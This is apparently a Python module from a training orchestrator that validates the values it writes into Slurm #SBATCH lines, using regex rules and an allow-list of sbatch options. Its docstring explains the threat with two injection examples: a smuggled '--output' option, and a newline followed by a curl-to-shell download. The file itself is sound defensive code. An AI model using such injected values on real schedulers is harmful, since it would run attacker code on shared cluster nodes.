"""The syntax of every value PyTrain writes into a Slurm batch script: one rule per setting.

The slurm runner writes ``#SBATCH --partition=<value>`` lines (:func:`pytrain.runners.slurm.render_sbatch`)
from the ``PYTRAIN_SLURM_*`` settings and a task row's ``options["slurm"]``. sbatch reads an
``#SBATCH`` line itself and splits it at white space, so a space in a value adds another option
(``gpu --output=/home/u/.bashrc``); a newline ends the ``#SBATCH`` block and the rest of the value
becomes a shell command on the node (``gpu\\ncurl -s http://x/y | sh``). So every such value must
match a strict pattern (``re.fullmatch``), checked three times:

- when the settings are read (``PYTRAIN_SLURM_*``: :class:`pytrain.settings.Settings` declares
  these fields with the types below, :data:`SlurmPartition` ...);
- when a task is submitted and when it is claimed (``options["slurm"]``:
  :func:`pytrain.task_options.slurm_overrides` validates each value against the same field type);
- when the script is rendered (defence in depth: the renderer refuses a bad value, it never
  quotes its way around one).

The rules (docs/adr/0009-slurm-runner.md, "Values in the script"):

- partition, account, QOS: Slurm names: letters, digits, ``_``, ``.``, ``-`` (not first), at most
  64 characters; a partition may be a comma-separated list (Slurm starts the job in whichever can start it first).
- mem: a whole number with an optional unit ``K``, ``M``, ``G``, ``T`` (sbatch ``--mem``; ``0``: all of
  a node's memory).
- container_image: an enroot/pyxis image (``nvcr.io#nvidia/pytorch:24.10-py3``, a ``.sqsh`` path).
- python: a command name or a path, without white space or shell characters.
- extra_sbatch: items separated by ``;`` or newlines, each ``--name`` or ``--name=value`` where
  ``name`` is one of :data:`EXTRA_SBATCH_OPTIONS` (resources and placement: the runner sets the job's
  name, comment, folder, output, requeue and environment itself, and no option that names a file
  or a program passes) and ``value`` matches :data:`SBATCH_VALUE_PATTERN` (no white space, quote,
  ``#``, ``$``, backquote, ``;``, ``/``, ``%``).

The rule class and the rules Slurm shares with other runners are :mod:`pytrain.value_rules`.
This module imports only pydantic's ``AfterValidator`` (the orchestrator's dependency; training
never imports it).
"""

from __future__ import annotations

import re
from typing import Annotated, Any

from pydantic import AfterValidator

from pytrain.value_rules import MEMORY_RULE, PYTHON_RULE, ValueRule

#: One Slurm name (a partition, an account, a QOS).
SLURM_NAME_PATTERN = r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,63}"
#: What a value in an ``#SBATCH`` line may hold: no white space (another option), no ``#``, quote or
#: backslash (sbatch's own parsing), no ``$``, backquote or ``;`` (shell), no ``/`` (a path: sbatch
#: reads ``--nodelist=/file`` as a file) and no ``%`` (a file name pattern in ``--output``).
_VALUE_CHARACTERS = r"A-Za-z0-9_.,:+=@\[\]&|*-"  # '-' last: a literal in a character class
SBATCH_VALUE_PATTERN = rf"[{_VALUE_CHARACTERS}]{{1,256}}"
#: An absolute path the script names (the task folder in ``--chdir``/``--output``, the sources root,
#: the weights folder): no white space, quote, ``$``, ``%`` or other shell character, and no ``,`` or
#: ``:`` (they separate pyxis's ``--container-mounts`` list).
SCRIPT_PATH_PATTERN = r"/[A-Za-z0-9_.+=@/-]{0,4095}"
#: Any ``#SBATCH`` option PyTrain writes: ``--name`` or ``--name=value``, the value made of the
#: characters of :data:`SBATCH_VALUE_PATTERN` or :data:`SCRIPT_PATH_PATTERN`.
SBATCH_LINE_PATTERN = rf"--[a-z][a-z0-9-]*(=[/{_VALUE_CHARACTERS}]{{1,4096}})?"
#: sbatch options ``extra_sbatch`` may add: resources and placement only.
EXTRA_SBATCH_OPTIONS = frozenset({
    "begin", "constraint", "contiguous", "core-spec", "cores-per-socket", "cpu-freq", "cpus-per-gpu", "deadline",
    "distribution", "exclude", "exclusive", "gpu-bind", "gpu-freq", "gpus", "gpus-per-socket", "gpus-per-task", "gres",
    "gres-flags", "hint", "licenses", "mail-type", "mail-user", "mem-per-cpu", "mem-per-gpu", "mincpus", "nice",
    "nodelist", "overcommit", "oversubscribe", "prefer", "reservation", "signal", "sockets-per-node", "spread-job",
    "switches", "thread-spec", "threads-per-core", "time", "time-min", "tmp", "use-min-nodes", "wckey",
})
_EXTRA_ITEM = re.compile(rf"--([a-z][a-z0-9-]*)(?:=({SBATCH_VALUE_PATTERN}))?")


#: A rule of a Slurm value (the class every runner's values use).
SlurmRule = ValueRule


#: The rule of each ``PYTRAIN_SLURM_<KEY>`` setting / ``options["slurm"][key]`` whose text reaches the script.
RULES: dict[str, SlurmRule] = {
    "partition": SlurmRule(rf"{SLURM_NAME_PATTERN}(,{SLURM_NAME_PATTERN}){{0,15}}",
                           "a Slurm partition name, or several separated by commas (letters, digits, '_', '.', '-')", "gpu"),
    "account": SlurmRule(SLURM_NAME_PATTERN, "a Slurm account name (letters, digits, '_', '.', '-')", "vision-lab"),
    "qos": SlurmRule(SLURM_NAME_PATTERN, "a Slurm QOS name (letters, digits, '_', '.', '-')", "normal"),
    "mem": MEMORY_RULE,
    "container_image": SlurmRule(r"[A-Za-z0-9_/][A-Za-z0-9_.:/#@+-]{0,511}",
                                 "an enroot/pyxis image: a registry reference or a .sqsh path", "nvcr.io#nvidia/pytorch:24.10-py3"),
    "python": PYTHON_RULE,
}


def parse_extra_sbatch(text: str | None) -> list[str]:
    """The sbatch options of ``extra_sbatch``: items separated by ``;`` or newlines (see the module docstring).

    Example: ``"--exclusive; --constraint=a100&nvlink"`` -> ``["--exclusive", "--constraint=a100&nvlink"]``.

    Raises:
        ValueError: an item that is not ``--name`` or ``--name=value``, names an option not in
            :data:`EXTRA_SBATCH_OPTIONS`, or has a value outside :data:`SBATCH_VALUE_PATTERN`.
    """
    items = []
    for part in re.split(r"[\n;]", text or ""):
        part = part.strip()
        if not part:
            continue
        match = _EXTRA_ITEM.fullmatch(part)
        if match is None:
            raise ValueError(f"item {part!r} is not --name or --name=value (value pattern {SBATCH_VALUE_PATTERN}); "
                             "separate items with ';', e.g. '--exclusive;--constraint=a100'")
        if match.group(1) not in EXTRA_SBATCH_OPTIONS:
            raise ValueError(f"item {part!r}: --{match.group(1)} is not an option PyTrain passes to sbatch; "
                             f"allowed: {', '.join(sorted(EXTRA_SBATCH_OPTIONS))}")
        items.append(part)
    return items


def _extra_sbatch_text(text: str) -> str:
    parse_extra_sbatch(text)
    return text


# The types of the text settings in pytrain.settings.Settings: a str that must pass its rule
# (pydantic raises ValidationError naming the setting; slurm_overrides validates a task's values
# against the same types).
SlurmPartition = Annotated[str, AfterValidator(RULES["partition"].check)]
SlurmAccount = Annotated[str, AfterValidator(RULES["account"].check)]
SlurmQos = Annotated[str, AfterValidator(RULES["qos"].check)]
SlurmMemory = Annotated[str, AfterValidator(RULES["mem"].check)]
SlurmContainerImage = Annotated[str, AfterValidator(RULES["container_image"].check)]
SlurmPython = Annotated[str, AfterValidator(RULES["python"].check)]
ExtraSbatch = Annotated[str, AfterValidator(_extra_sbatch_text)]


def problem(key: str, value: Any) -> str | None:
    """Why ``value`` cannot be the Slurm setting ``key`` (a key of :data:`RULES`, or ``"extra_sbatch"``), or ``None``."""
    try:
        _extra_sbatch_text(value) if key == "extra_sbatch" else RULES[key].check(value)
    except ValueError as exc:
        return str(exc)
    return None
